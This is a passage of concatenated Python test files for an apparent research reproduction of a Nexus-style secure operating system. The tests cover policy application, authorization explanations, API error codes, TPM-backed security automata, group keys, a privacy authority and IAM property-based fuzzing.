        # clears it like any other installed goal.
        kernel.policies.put(_files_policy(
            selector=Selector(name=resources[0].name)))
        narrowed = kernel.policies.apply(admin.pid, "docs")
        assert kernel.default_guard.goals.get(fresh.resource_id,
                                              "read") is None
        assert narrowed.cleared >= 1
        # Covering an unmatched resource is a no-op, never an error.
        other = kernel.resources.create("/elsewhere/x", "file",
                                        admin.principal)
        kernel.policies.rollback(admin.pid, "docs", 1)
        noop = kernel.policies.cover(admin.pid, "docs", other)
        assert (noop.set_count, noop.cleared) == (0, 0)

    def test_cover_requires_an_active_version(self, kernel, admin):
        resources = _make_files(kernel, admin, 1)
        kernel.policies.put(_files_policy())
        with pytest.raises(PolicyError):
            kernel.policies.cover(admin.pid, "docs", resources[0])

    def test_engine_apply_is_atomic_under_mixed_ownership(self, kernel,
                                                          admin):
        # One matched resource belongs to someone else: the whole apply
        # fails and *no* goal (not even on owned resources) is touched.
        other = kernel.create_process("other")
        kernel.resources.create("/files/mine", "file", admin.principal)
        kernel.resources.create("/files/theirs", "file", other.principal)
        kernel.policies.put(_files_policy())
        with pytest.raises(AccessDenied):
            kernel.policies.apply(admin.pid, "docs")
        assert len(kernel.default_guard.goals) == 0
        assert kernel.policies.active_version("docs") is None


# --------------------------------------------------------------------------
# structured explanations
# --------------------------------------------------------------------------

class TestExplanations:
    def _guarded_file(self, kernel, admin,
                      goal="Admin says ok(?Subject)"):
        resource = kernel.resources.create("/files/x", "file",
                                           admin.principal)
        kernel.apply_policy(admin.pid,
                            [(resource.resource_id, "read", goal, None)])
        return resource

    def test_default_policy_explanation(self, kernel, admin):
        stranger = kernel.create_process("stranger")
        resource = kernel.resources.create("/files/x", "file",
                                           admin.principal)
        decision = kernel.explain(stranger.pid, "read",
                                  resource.resource_id)
        assert not decision.allow
        explanation = decision.explanation
        assert explanation.kind == "default-policy"
        assert explanation.goal is None
        assert str(admin.principal) in explanation.premise

    def test_no_proof_explanation_carries_instantiated_goal(self, kernel,
                                                            admin):
        reader = kernel.create_process("reader")
        resource = self._guarded_file(kernel, admin)
        explanation = kernel.explain(reader.pid, "read",
                                     resource.resource_id).explanation
        assert explanation.kind == "no-proof"
        assert str(reader.principal) in explanation.goal

    def test_missing_credential_explanation_names_the_label(self, kernel,
                                                            admin):
        reader = kernel.create_process("reader")
        resource = self._guarded_file(kernel, admin)
        claimed = parse(f"Admin says ok({reader.principal})")
        bundle = ProofBundle(Assume(claimed), credentials=(claimed,))
        explanation = kernel.explain(reader.pid, "read",
                                     resource.resource_id,
                                     bundle).explanation
        assert explanation.kind == "missing-credential"
        assert explanation.premise == str(claimed)
        assert "no label" in explanation.detail

    def test_proof_rejected_explanation(self, kernel, admin):
        reader = kernel.create_process("reader")
        resource = self._guarded_file(kernel, admin)
        wrong = parse("Admin says unrelated(thing)")
        bundle = ProofBundle(Assume(wrong), credentials=(wrong,))
        explanation = kernel.explain(reader.pid, "read",
                                     resource.resource_id,
                                     bundle).explanation
        assert explanation.kind == "proof-rejected"

    def test_authority_denied_explanation_names_the_port(self, kernel,
                                                         admin):
        from repro.kernel.authority import StatementSetAuthority
        from repro.nal.proof import AuthorityQuery
        kernel.register_authority("clock", StatementSetAuthority())
        reader = kernel.create_process("reader")
        resource = self._guarded_file(kernel, admin,
                                      goal="Admin says open(now)")
        statement = parse("Admin says open(now)")
        bundle = ProofBundle(AuthorityQuery(statement, "clock"))
        explanation = kernel.explain(reader.pid, "read",
                                     resource.resource_id,
                                     bundle).explanation
        assert explanation.kind == "authority-denied"
        assert explanation.authority == "clock"
        assert explanation.premise == str(statement)

    def test_allow_explanation(self, kernel, admin):
        reader = kernel.create_process("reader")
        resource = self._guarded_file(kernel, admin)
        kernel.say_as("Admin", f"ok({reader.principal})",
                      store=kernel.default_labelstore(reader.pid))
        claimed = parse(f"Admin says ok({reader.principal})")
        bundle = ProofBundle(Assume(claimed), credentials=(claimed,))
        decision = kernel.explain(reader.pid, "read",
                                  resource.resource_id, bundle)
        assert decision.allow
        assert decision.explanation.kind == "allowed"

    def test_explain_bypasses_and_never_warms_the_cache(self, kernel,
                                                        admin):
        resource = kernel.resources.create("/files/x", "file",
                                           admin.principal)
        inserts_before = kernel.decision_cache.stats.insertions
        kernel.explain(admin.pid, "read", resource.resource_id)
        assert kernel.decision_cache.stats.insertions == inserts_before
        # A cached verdict does not starve explain of its explanation.
        kernel.authorize(admin.pid, "read", resource.resource_id)
        cached = kernel.authorize(admin.pid, "read", resource.resource_id)
        assert cached.reason == "decision cache"
        assert cached.explanation is None
        assert kernel.explain(admin.pid, "read",
                              resource.resource_id).explanation is not None


# --------------------------------------------------------------------------
# the wire surface
# --------------------------------------------------------------------------

def _clients():
    return [NexusClient.in_process(NexusService()),
            NexusClient.over_http(NexusService())]


class TestPolicyApi:
    @pytest.mark.parametrize("client", _clients(),
                             ids=["direct", "http"])
    def test_full_lifecycle_over_the_wire(self, client):
        admin = client.open_session("admin")
        for i in range(2):
            admin.create_resource(f"/files/doc{i}", "file")
        version = admin.put_policy(_files_policy()).version
        assert version == 1
        plan = admin.plan_policy("docs")
        assert [a.action for a in plan.actions] == ["set", "set"]
        assert plan.actions[0].goal == "Admin says mayRead(?Subject)"
        applied = admin.apply_policy("docs")
        assert (applied.set_count, applied.epoch_bumps) == (2, 2)
        document = admin.get_policy("docs")
        assert document.document["name"] == "docs"
        assert document.active == 1
        admin.put_policy(_files_policy("B says ok(?Subject)"))
        admin.apply_policy("docs")
        versions = admin.policy_versions("docs")
        assert (versions.versions, versions.active) == ([1, 2], 2)
        rolled = admin.rollback_policy("docs", 1)
        assert rolled.version == 1
        assert admin.policy_versions("docs").active == 1

    @pytest.mark.parametrize("client", _clients(),
                             ids=["direct", "http"])
    def test_explain_endpoint_structures_the_deny(self, client):
        admin = client.open_session("admin")
        reader = client.open_session("reader")
        admin.create_resource("/files/doc", "file")
        admin.put_policy(_files_policy(
            f"{admin.principal} says mayRead(?Subject)"))
        admin.apply_policy("docs")
        response = reader.explain("read", "/files/doc", wallet=True)
        assert not response.verdict.allow
        assert response.explanation.kind == "no-proof"
        assert reader.principal in response.explanation.goal
        # With a claimed-but-unissued credential: the missing label.
        goal = reader.goal_for("/files/doc", "read")
        concrete = goal.replace("?Subject", reader.principal)
        bundle = CredentialSet([concrete]).bundle_for(concrete)
        response = reader.explain("read", "/files/doc", proof=bundle)
        assert response.explanation.kind == "missing-credential"
        assert response.explanation.premise == concrete

    def test_policy_errors_map_to_stable_codes(self):
        client = _clients()[1]
        admin = client.open_session("admin")
        with pytest.raises(ApiError) as excinfo:
            admin.plan_policy("ghost")
        assert excinfo.value.code == "E_NO_SUCH_POLICY"
        assert excinfo.value.http_status == 404
        with pytest.raises(ApiError) as excinfo:
            admin.put_policy({"name": "x", "rules": []})
        assert excinfo.value.code == "E_POLICY"
        assert excinfo.value.http_status == 400

    def test_apply_requires_authorization_over_the_wire(self):
        client = _clients()[0]
        admin = client.open_session("admin")
        stranger = client.open_session("stranger")
        admin.create_resource("/files/doc", "file")
        stranger.put_policy(_files_policy())
        with pytest.raises(ApiError) as excinfo:
            stranger.apply_policy("docs")
        assert excinfo.value.code == "E_ACCESS_DENIED"

    def test_transport_equivalence_of_plan_and_explain(self):
        results = []
        for client in _clients():
            admin = client.open_session("admin")
            admin.create_resource("/files/doc", "file")
            admin.put_policy(_files_policy())
            plan = admin.plan_policy("docs")
            admin.apply_policy("docs")
            explained = admin.explain("read", "/files/doc", wallet=True)
            results.append(([a.to_dict() for a in plan.actions],
                            explained.explanation.to_dict()))
        assert results[0] == results[1]


# --------------------------------------------------------------------------
# applications declare their policy as PolicySets
# --------------------------------------------------------------------------

class TestAppPolicySets:
    def test_fauxbook_declares_access_policy(self):
        from repro.apps.fauxbook.stack import FauxbookStack
        stack = FauxbookStack(access_control="static")
        stack.put_file("/a.html", b"hello")
        engine = stack.kernel.policies
        assert "www-access" in engine.names()
        assert engine.active_version("www-access") == 1
        resource = stack.kernel.resources.lookup("/fs/a.html")
        entry = stack.kernel.default_guard.goals.get(
            resource.resource_id, "serve")
        assert str(entry.formula) == "WWWOwner says mayServe(?Subject)"
        # The declared policy still serves requests end to end.
        assert stack.request("GET", "/static/a.html").status == 200

    def test_fauxbook_new_files_covered_by_reapply(self):
        from repro.apps.fauxbook.stack import FauxbookStack
        stack = FauxbookStack(access_control="none")
        stack.put_file("/a.html", b"a")
        stack.put_file("/b.html", b"b")
        engine = stack.kernel.policies
        # One declaration, applied as needed — never a second version.
        assert engine.versions("www-access") == [1]
        for path in ("/static/a.html", "/static/b.html"):
            assert stack.request("GET", path).status == 200

    def test_fauxbook_monitor_policy_is_declarative(self):
        from repro.apps.fauxbook.stack import FauxbookStack
        stack = FauxbookStack(ref_monitor="kernel")
        engine = stack.kernel.policies
        assert engine.active_version("www-monitor") == 1
        stack.put_file("/a.html", b"a")
        assert stack.request("GET", "/static/a.html").status == 200

    def test_objectstore_guarded_import_paths(self):
        from repro.apps.objectstore import (
            STORE_IMPORT_OPERATION, Schema, TypedObjectStore,
            install_store_policy, publish_store)
        kernel = NexusKernel()
        keeper = kernel.create_process("storekeeper")
        importer = kernel.create_process("importer")
        schema = Schema.of(uid="int", name="str")
        producer = TypedObjectStore(schema, producer="remote-jvm")
        for i in range(8):
            producer.put({"uid": i, "name": f"u{i}"})
        image = producer.export()

        install_store_policy(kernel, keeper.pid)
        resource = publish_store(kernel, keeper.pid, image)
        entry = kernel.default_guard.goals.get(resource.resource_id,
                                               STORE_IMPORT_OPERATION)
        # The template names the producer recovered from the resource.
        assert str(entry.formula) == \
            "TypeCertifier says typesafe(remote-jvm)"

        slow = TypedObjectStore.import_guarded(image, schema, kernel,
                                               importer.pid, resource)
        assert slow.validations == 8
        explanation = kernel.explain(importer.pid, STORE_IMPORT_OPERATION,
                                     resource.resource_id).explanation
        assert explanation.kind == "no-proof"
        assert "typesafe(remote-jvm)" in explanation.goal

        kernel.say_as("TypeCertifier", "typesafe(remote-jvm)",
                      store=kernel.default_labelstore(importer.pid))
        fast = TypedObjectStore.import_guarded(image, schema, kernel,
                                               importer.pid, resource)
        assert fast.validations == 0
        assert fast.records() == slow.records()

    def test_objectstore_policy_covers_later_stores(self):
        from repro.apps.objectstore import (Schema, TypedObjectStore,
                                            install_store_policy,
                                            publish_store)
        kernel = NexusKernel()
        keeper = kernel.create_process("storekeeper")
        schema = Schema.of(x="int")
        install_store_policy(kernel, keeper.pid)
        for producer_name in ("jvm-a", "jvm-b"):
            producer = TypedObjectStore(schema, producer=producer_name)
            producer.put({"x": 1})
            resource = publish_store(kernel, keeper.pid,
                                     producer.export())
            entry = kernel.default_guard.goals.get(resource.resource_id,
                                                   "import")
            assert f"typesafe({producer_name})" in str(entry.formula)


def test_wire_explanation_kinds_match_the_guard():
    """The wire's closed kind set must track the guard's exactly."""
    from repro.api.messages import EXPLANATION_KINDS as WIRE_KINDS
    from repro.kernel.guard import EXPLANATION_KINDS as GUARD_KINDS
    assert set(WIRE_KINDS) == set(GUARD_KINDS)


def test_wire_rejects_unknown_explanation_kind():
    from repro.api.messages import Explanation
    with pytest.raises(ApiError):
        Explanation.from_dict({"kind": "banana", "operation": "read",
                               "resource": "/x"})
