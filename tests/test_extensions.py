"""Tests for the paper's optional/extension features: security automata,
group keys, the privacy authority, and worldviews."""

import pytest

from repro.core.credentials import CredentialSet
from repro.core.groupkeys import GroupKeyService
from repro.errors import (
    AccessDenied,
    PolicyViolation,
    SignatureError,
    StorageError,
    TPMError,
)
from repro.kernel import NexusKernel
from repro.kernel.automata import (
    AutomatonMonitor,
    SecurityAutomaton,
    count_limited,
)
from repro.nal.worldview import WorldviewStore
from repro.storage import Disk, SecureStorageRegion, VDIRRegistry
from repro.tpm import TPM, NEXUS_PCR_MASK
from repro.tpm.privacy import NexusPrivacyAuthority


# ---------------------------------------------------------------------------
# Security automata (§3.3)
# ---------------------------------------------------------------------------

def _ssr():
    disk = Disk()
    tpm = TPM(seed=31)
    tpm.take_ownership(seed=32)
    vdirs = VDIRRegistry(disk, tpm)
    vdirs.format()
    ssr = SecureStorageRegion("automaton", disk, vdirs, size_blocks=1,
                              block_size=256)
    ssr.create()
    return disk, vdirs, ssr


class TestSecurityAutomata:
    def test_basic_stepping(self):
        automaton = SecurityAutomaton(
            "doc-release",
            transitions={("draft", "review"): "reviewed",
                         ("reviewed", "release"): "released"},
            initial="draft")
        automaton.step("review")
        automaton.step("release")
        assert automaton.state == "released"

    def test_violation_leaves_state_unchanged(self):
        automaton = SecurityAutomaton(
            "doc-release",
            transitions={("draft", "review"): "reviewed"},
            initial="draft")
        with pytest.raises(PolicyViolation):
            automaton.step("release")
        assert automaton.state == "draft"

    def test_count_limited_object(self):
        automaton = count_limited("sign-3", "sign", limit=3)
        for _ in range(3):
            automaton.step("sign")
        with pytest.raises(PolicyViolation):
            automaton.step("sign")

    def test_state_persists_across_restart(self):
        _disk, _vdirs, ssr = _ssr()
        automaton = count_limited("persist", "use", limit=5, ssr=ssr)
        automaton.step("use")
        automaton.step("use")
        # "Reboot": restore from the same SSR.
        restored = count_limited("persist", "use", limit=5, ssr=ssr)
        assert restored.state == "used-2"

    def test_wrong_automaton_name_rejected(self):
        _disk, _vdirs, ssr = _ssr()
        count_limited("first", "use", limit=2, ssr=ssr).step("use")
        with pytest.raises(StorageError):
            count_limited("second", "use", limit=2, ssr=ssr)

    def test_rollback_attack_detected(self):
        """Re-imaging the disk to reset a usage counter is caught by the
        SSR/VDIR anchoring — the whole point of TPM-backed state."""
        from repro.errors import IntegrityError, ReplayError
        disk, vdirs, ssr = _ssr()
        automaton = count_limited("limited", "use", limit=2, ssr=ssr)
        image = disk.snapshot()
        automaton.step("use")
        automaton.step("use")  # exhausted
        for name, data in image.items():
            if name.startswith("/ssr/"):
                disk.write_file(name, data)  # roll the counter back
        fresh = SecureStorageRegion("automaton", disk, vdirs, size_blocks=1,
                                    block_size=256)
        with pytest.raises((IntegrityError, ReplayError)):
            fresh.open(ssr.vdir_id)

    def test_monitor_adapter(self):
        kernel = NexusKernel()
        server = kernel.create_process("server")
        port = kernel.create_port(server.pid, "svc", handler=lambda: "ok")
        client = kernel.create_process("client")
        automaton = count_limited("two-calls", "ipc_call", limit=2)
        kernel.sys_interpose(server.pid, port.port_id,
                             AutomatonMonitor(automaton))
        assert kernel.ipc_call(client.pid, port.port_id) == "ok"
        assert kernel.ipc_call(client.pid, port.port_id) == "ok"
        with pytest.raises(AccessDenied):
            kernel.ipc_call(client.pid, port.port_id)


# ---------------------------------------------------------------------------
# Group keys (§3.3)
# ---------------------------------------------------------------------------

class TestGroupKeys:
    def _world(self):
        kernel = NexusKernel()
        service = GroupKeyService(kernel)
        owner = kernel.create_process("group-owner")
        member = kernel.create_process("member")
        manager = kernel.create_process("manager")
        outsider = kernel.create_process("outsider")
        service.create_group_key(owner, "signers", seed=41)
        return kernel, service, owner, member, manager, outsider

    def test_member_can_sign(self):
        kernel, service, owner, member, manager, outsider = self._world()
        wallet = service.admit_member(owner, "signers", member)
        signature = service.sign(member, "signers", b"release-1.0", wallet)
        service.public_key("signers").verify(b"release-1.0", signature)

    def test_outsider_cannot_sign(self):
        kernel, service, owner, member, manager, outsider = self._world()
        with pytest.raises(AccessDenied):
            service.sign(outsider, "signers", b"m", CredentialSet())

    def test_member_cannot_externalize(self):
        """The §3.3 separation: signing rights do not imply key
        management rights."""
        kernel, service, owner, member, manager, outsider = self._world()
        wallet = service.admit_member(owner, "signers", member)
        with pytest.raises(AccessDenied):
            service.externalize(member, "signers", wallet)

    def test_manager_can_externalize_but_not_sign(self):
        kernel, service, owner, member, manager, outsider = self._world()
        wallet = service.appoint_manager(owner, "signers", manager)
        blob = service.externalize(manager, "signers", wallet)
        assert isinstance(blob, bytes) and blob
        with pytest.raises(AccessDenied):
            service.sign(manager, "signers", b"m", wallet)

    def test_membership_revocation_by_goal_change(self):
        kernel, service, owner, member, manager, outsider = self._world()
        wallet = service.admit_member(owner, "signers", member)
        service.sign(member, "signers", b"ok", wallet)
        resource = kernel.resources.lookup("/vkey/signers")
        kernel.sys_setgoal(owner.pid, resource.resource_id, "sign",
                           f"{owner.path} says nobody(?Subject)")
        with pytest.raises(AccessDenied):
            service.sign(member, "signers", b"again", wallet)


# ---------------------------------------------------------------------------
# Privacy authority (§3.4)
# ---------------------------------------------------------------------------

class TestPrivacyAuthority:
    def _enrolled_platform(self, authority, seed=51):
        from repro.crypto.rsa import generate_keypair
        tpm = TPM(seed=seed)
        tpm.extend(0, b"nexus-kernel")
        nk = generate_keypair(512, seed=seed + 1)
        return tpm, nk

    def test_enrollment_issues_pseudonym(self):
        authority = NexusPrivacyAuthority(seed=50)
        tpm, nk = self._enrolled_platform(authority)
        authority.register_manufacturer_ek(tpm.ek_public)
        request = NexusPrivacyAuthority.build_request(tpm, nk, [0])
        cert = authority.enroll(request)
        cert.verify()
        assert cert.subject.startswith("pseudonym-")
        assert cert.subject_key == nk.public

    def test_pseudonym_hides_tpm_identity(self):
        authority = NexusPrivacyAuthority(seed=50)
        tpm, nk = self._enrolled_platform(authority)
        authority.register_manufacturer_ek(tpm.ek_public)
        request = NexusPrivacyAuthority.build_request(tpm, nk, [0])
        cert = authority.enroll(request)
        blob = cert.to_json()
        assert tpm.ek_public.fingerprint().hex() not in blob
        assert f"{tpm.ek_public.n:x}" not in blob

    def test_two_enrollments_unlinkable(self):
        authority = NexusPrivacyAuthority(seed=50)
        tpm, nk = self._enrolled_platform(authority)
        authority.register_manufacturer_ek(tpm.ek_public)
        first = authority.enroll(
            NexusPrivacyAuthority.build_request(tpm, nk, [0]))
        second = authority.enroll(
            NexusPrivacyAuthority.build_request(tpm, nk, [0]))
        assert first.subject != second.subject

    def test_unknown_manufacturer_rejected(self):
        authority = NexusPrivacyAuthority(seed=50)
        tpm, nk = self._enrolled_platform(authority)
        request = NexusPrivacyAuthority.build_request(tpm, nk, [0])
        with pytest.raises(TPMError):
            authority.enroll(request)

    def test_quote_must_bind_nk(self):
        from repro.crypto.rsa import generate_keypair
        authority = NexusPrivacyAuthority(seed=50)
        tpm, nk = self._enrolled_platform(authority)
        authority.register_manufacturer_ek(tpm.ek_public)
        request = NexusPrivacyAuthority.build_request(tpm, nk, [0])
        # Swap in a different NK after the quote was made.
        request.nk_public = generate_keypair(512, seed=99).public
        with pytest.raises(SignatureError):
            authority.enroll(request)

    def test_unmasking_requires_warrant(self):
        authority = NexusPrivacyAuthority(seed=50)
        tpm, nk = self._enrolled_platform(authority)
        authority.register_manufacturer_ek(tpm.ek_public)
        cert = authority.enroll(
            NexusPrivacyAuthority.build_request(tpm, nk, [0]))
        with pytest.raises(PermissionError):
            authority.unmask(cert.subject, "")
        linked = authority.unmask(cert.subject, "warrant-123")
        assert linked == tpm.ek_public.fingerprint()


# ---------------------------------------------------------------------------
# Worldviews (§2.1)
# ---------------------------------------------------------------------------

class TestWorldviews:
    def test_direct_belief(self):
        store = WorldviewStore(["A says p"])
        assert store.believes("A", "p")
        assert not store.believes("B", "p")

    def test_delegation_extends_worldview(self):
        store = WorldviewStore(["A says p", "B says (A speaksfor B)"])
        assert store.believes("B", "p")
        assert store.speaks_for("A", "B")

    def test_subprincipal_axiom(self):
        store = WorldviewStore(["A says p"])
        assert store.believes("A.t", "p")
        assert store.speaks_for("A", "A.t")
        assert not store.speaks_for("A.t", "A")

    def test_worldview_of(self):
        store = WorldviewStore(["A says p", "A says q", "B says r",
                                "B says (A speaksfor B)"])
        from repro.nal import parse
        assert store.worldview_of("A") == {parse("p"), parse("q")}
        # B believes its own utterances (including the handoff) plus
        # everything delegated from A.
        assert store.worldview_of("B") == {parse("p"), parse("q"),
                                           parse("r"),
                                           parse("A speaksfor B")}

    def test_speaksfor_subset_semantics(self):
        """If A speaksfor B then A's worldview ⊆ B's (§2.1)."""
        store = WorldviewStore(["A says p", "B says q",
                                "B says (A speaksfor B)"])
        assert store.subset_check("A", "B")
        assert not store.subset_check("B", "A")

    def test_local_inference_in_worldviews(self):
        store = WorldviewStore(["A says false"])
        assert store.believes("A", "anything")
        assert not store.believes("B", "anything")
