"""Property fuzz for the IAM layer.

Three invariant families, driven by seeded (deterministic) generation:

* **codec round-trips** — any generatable :class:`Role` survives
  ``Role.from_dict(role.to_dict())`` exactly;
* **Allow/Deny precedence** — for any generated configuration, the
  compiled enforcement (deny table + installed goals, exercised through
  the kernel's real authorize path) agrees with the document-level
  reference semantics: an explicit Deny wins over every Allow, an Allow
  grants exactly when some bound Allow statement matches, and anything
  else falls to the kernel's default owner policy;
* **incremental ≡ full** — replaying any edit script with incremental
  applies (digest-keyed role reuse, per-role policy sets) lands on
  byte-identical enforcement — goal texts, deny table, applied
  versions, authority hints and live verdicts — to a cold kernel that
  force-recompiles everything at each apply point.
"""

from hypothesis import given, settings, strategies as st

from repro.iam import Condition, Role, Statement, use_statement
from repro.kernel.kernel import NexusKernel

ACTIONS = ("read", "write")
RESOURCES = ("/files/a", "/files/b", "/docs/x")
GLOBS = ("/files/*", "/docs/*", "/files/a", "*")

conditions = st.one_of(
    st.builds(Condition, kind=st.just("time-before"),
              at=st.integers(0, 10**9)),
    st.builds(Condition, kind=st.just("time-after"),
              at=st.integers(0, 10**9)),
    st.builds(Condition, kind=st.just("rate-tier"),
              tier=st.sampled_from(("gold", "silver")),
              capacity=st.integers(1, 9),
              refill_rate=st.floats(0, 5, allow_nan=False)),
)


def _statements(with_conditions):
    allow = st.builds(
        Statement,
        sid=st.sampled_from(("a1", "a2", "a3")),
        effect=st.just("Allow"),
        actions=st.sets(st.sampled_from(ACTIONS), min_size=1)
        .map(lambda s: tuple(sorted(s))),
        resources=st.sets(st.sampled_from(GLOBS[:-1]), min_size=1)
        .map(lambda s: tuple(sorted(s))),
        conditions=(st.lists(conditions, max_size=2).map(tuple)
                    if with_conditions else st.just(())))
    deny = st.builds(
        Statement,
        sid=st.sampled_from(("d1", "d2")),
        effect=st.just("Deny"),
        actions=st.sets(st.sampled_from(ACTIONS + ("*",)), min_size=1)
        .map(lambda s: tuple(sorted(s))),
        resources=st.sets(st.sampled_from(GLOBS), min_size=1)
        .map(lambda s: tuple(sorted(s))))
    return st.one_of(allow, deny)


def _roles(with_conditions=True):
    def build(name, raw):
        unique, seen = [], set()
        for statement in raw:
            if statement.sid not in seen:
                seen.add(statement.sid)
                unique.append(statement)
        return Role(name, tuple(unique))

    return st.builds(
        build,
        st.sampled_from(("reader", "writer", "auditor")),
        st.lists(_statements(with_conditions), min_size=1, max_size=4))


@given(_roles())
@settings(max_examples=200, deadline=None)
def test_role_dict_round_trip(role):
    """to_dict → from_dict is the identity on any generatable role."""
    encoded = role.to_dict()
    decoded = Role.from_dict(encoded)
    assert decoded == role
    assert decoded.to_dict() == encoded


@given(st.lists(_roles(with_conditions=False), min_size=1, max_size=3),
       st.sets(st.sampled_from(("reader", "writer", "auditor"))),
       st.sampled_from(ACTIONS), st.sampled_from(RESOURCES))
@settings(max_examples=25, deadline=None)
def test_enforcement_matches_reference_semantics(roles, bound, action,
                                                 resource_name):
    """Compiled enforcement == the obvious document interpretation.

    Dedup roles by name (put_role would version them; the property is
    about one applied configuration), bind the subject to ``bound``,
    apply, and compare the kernel's wallet-path verdict against a
    direct reading of the statements.  ``simulate`` must agree too.
    """
    documents = {}
    for role in roles:
        documents[role.name] = role
    bound = sorted(bound & set(documents))

    kernel = NexusKernel(key_seed=7)
    admin = kernel.create_process("admin")
    alice = kernel.create_process("alice")
    for name in RESOURCES:
        kernel.resources.create(name, "file", admin.principal)
    for role in documents.values():
        kernel.iam.put_role(role)
    for name in bound:
        kernel.iam.bind(str(alice.principal), name)
        kernel.sys_say(alice.pid, use_statement(name))
    kernel.iam.apply(admin.pid)

    matching = [(name, statement)
                for name in bound
                for statement in documents[name].statements
                if statement.matches(action, resource_name)]
    denied = [m for m in matching if m[1].effect == "Deny"]
    allowed = [m for m in matching if m[1].effect == "Allow"]

    from repro.core.attestation import kernel_wallet_bundle
    resource = kernel.resources.lookup(resource_name)
    bundle = kernel_wallet_bundle(kernel, alice.pid, action, resource)
    verdict = kernel.authorize(alice.pid, action, resource.resource_id,
                               bundle)
    simulated = kernel.iam.simulate(str(alice.principal), action,
                                    resource_name)

    if denied:
        assert not verdict.allow
        assert verdict.explanation.kind == "iam-deny"
        assert simulated.effect == "Deny"
    elif allowed:
        assert verdict.allow
        assert simulated.effect == "Allow"
    else:
        assert not verdict.allow
        assert verdict.explanation.kind == "default-policy"
        assert simulated.effect == "Default"


# --------------------------------------------------------------------------
# incremental apply ≡ cold full recompile
# --------------------------------------------------------------------------

ROLE_NAMES = ("reader", "writer", "auditor")
SUBJECTS = ("alice", "bob")

_edit_ops = st.one_of(
    _roles(with_conditions=False).map(lambda role: ("put", role)),
    st.tuples(st.just("bind"), st.sampled_from(SUBJECTS),
              st.sampled_from(ROLE_NAMES), st.booleans()),
    st.just(("apply",)),
)


def _replay(script, force_full):
    """Run one edit script against a fresh kernel, applying at every
    ``apply`` marker (and once at the end) with the given mode."""
    kernel = NexusKernel(key_seed=11)
    admin = kernel.create_process("admin")
    subjects = {name: kernel.create_process(name) for name in SUBJECTS}
    for name in RESOURCES:
        kernel.resources.create(name, "file", admin.principal)
    for name in ROLE_NAMES:
        kernel.iam.put_role(Role(name, (
            Statement("a1", "Allow", ("read",), ("/files/a",)),)))
    for op in script:
        if op[0] == "put":
            kernel.iam.put_role(op[1])
        elif op[0] == "bind":
            kernel.iam.bind(str(subjects[op[1]].principal), op[2],
                            bound=op[3])
        else:
            kernel.iam.apply(admin.pid, force_full=force_full)
    kernel.iam.apply(admin.pid, force_full=force_full)
    return kernel, admin, subjects


def _enforcement_fingerprint(kernel):
    """Everything enforcement-visible, in comparable form."""
    return {
        "goals": sorted((key, str(entry.formula))
                        for key, entry in
                        kernel.default_guard.goals.items()),
        "deny": kernel.iam._deny,
        "applied": kernel.iam.applied_versions(),
        "hints": sorted((str(formula), port) for formula, port in
                        kernel.iam.authority_hints().items()),
    }


@given(st.lists(_edit_ops, min_size=3, max_size=12))
@settings(max_examples=20, deadline=None)
def test_incremental_apply_equals_cold_full_recompile(script):
    """Digest-keyed reuse and per-role sets are pure optimisation: the
    incremental kernel and a force-full kernel replaying the same
    script agree byte-for-byte on goals, denies and verdicts."""
    warm, warm_admin, warm_subjects = _replay(script, force_full=False)
    cold, _cold_admin, cold_subjects = _replay(script, force_full=True)

    assert _enforcement_fingerprint(warm) == _enforcement_fingerprint(cold)

    from repro.core.attestation import kernel_wallet_bundle

    def verdicts(kernel, subjects):
        observed = []
        for name in SUBJECTS:
            process = subjects[name]
            for role_name in ROLE_NAMES:
                kernel.sys_say(process.pid, use_statement(role_name))
            for action in ACTIONS:
                for resource_name in RESOURCES:
                    resource = kernel.resources.lookup(resource_name)
                    bundle = kernel_wallet_bundle(kernel, process.pid,
                                                  action, resource)
                    verdict = kernel.authorize(process.pid, action,
                                               resource.resource_id,
                                               bundle)
                    simulated = kernel.iam.simulate(
                        str(process.principal), action, resource_name)
                    observed.append((
                        name, action, resource_name, verdict.allow,
                        verdict.explanation.kind, simulated.effect,
                        simulated.role, simulated.sid))
        return observed

    assert verdicts(warm, warm_subjects) == verdicts(cold, cold_subjects)
