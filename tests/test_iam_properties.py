"""Property fuzz for the IAM layer.

Two invariant families, driven by seeded (deterministic) generation:

* **codec round-trips** — any generatable :class:`Role` survives
  ``Role.from_dict(role.to_dict())`` exactly;
* **Allow/Deny precedence** — for any generated configuration, the
  compiled enforcement (deny table + installed goals, exercised through
  the kernel's real authorize path) agrees with the document-level
  reference semantics: an explicit Deny wins over every Allow, an Allow
  grants exactly when some bound Allow statement matches, and anything
  else falls to the kernel's default owner policy.
"""

from hypothesis import given, settings, strategies as st

from repro.iam import Condition, Role, Statement, use_statement
from repro.kernel.kernel import NexusKernel

ACTIONS = ("read", "write")
RESOURCES = ("/files/a", "/files/b", "/docs/x")
GLOBS = ("/files/*", "/docs/*", "/files/a", "*")

conditions = st.one_of(
    st.builds(Condition, kind=st.just("time-before"),
              at=st.integers(0, 10**9)),
    st.builds(Condition, kind=st.just("time-after"),
              at=st.integers(0, 10**9)),
    st.builds(Condition, kind=st.just("rate-tier"),
              tier=st.sampled_from(("gold", "silver")),
              capacity=st.integers(1, 9),
              refill_rate=st.floats(0, 5, allow_nan=False)),
)


def _statements(with_conditions):
    allow = st.builds(
        Statement,
        sid=st.sampled_from(("a1", "a2", "a3")),
        effect=st.just("Allow"),
        actions=st.sets(st.sampled_from(ACTIONS), min_size=1)
        .map(lambda s: tuple(sorted(s))),
        resources=st.sets(st.sampled_from(GLOBS[:-1]), min_size=1)
        .map(lambda s: tuple(sorted(s))),
        conditions=(st.lists(conditions, max_size=2).map(tuple)
                    if with_conditions else st.just(())))
    deny = st.builds(
        Statement,
        sid=st.sampled_from(("d1", "d2")),
        effect=st.just("Deny"),
        actions=st.sets(st.sampled_from(ACTIONS + ("*",)), min_size=1)
        .map(lambda s: tuple(sorted(s))),
        resources=st.sets(st.sampled_from(GLOBS), min_size=1)
        .map(lambda s: tuple(sorted(s))))
    return st.one_of(allow, deny)


def _roles(with_conditions=True):
    def build(name, raw):
        unique, seen = [], set()
        for statement in raw:
            if statement.sid not in seen:
                seen.add(statement.sid)
                unique.append(statement)
        return Role(name, tuple(unique))

    return st.builds(
        build,
        st.sampled_from(("reader", "writer", "auditor")),
        st.lists(_statements(with_conditions), min_size=1, max_size=4))


@given(_roles())
@settings(max_examples=200, deadline=None)
def test_role_dict_round_trip(role):
    """to_dict → from_dict is the identity on any generatable role."""
    encoded = role.to_dict()
    decoded = Role.from_dict(encoded)
    assert decoded == role
    assert decoded.to_dict() == encoded


@given(st.lists(_roles(with_conditions=False), min_size=1, max_size=3),
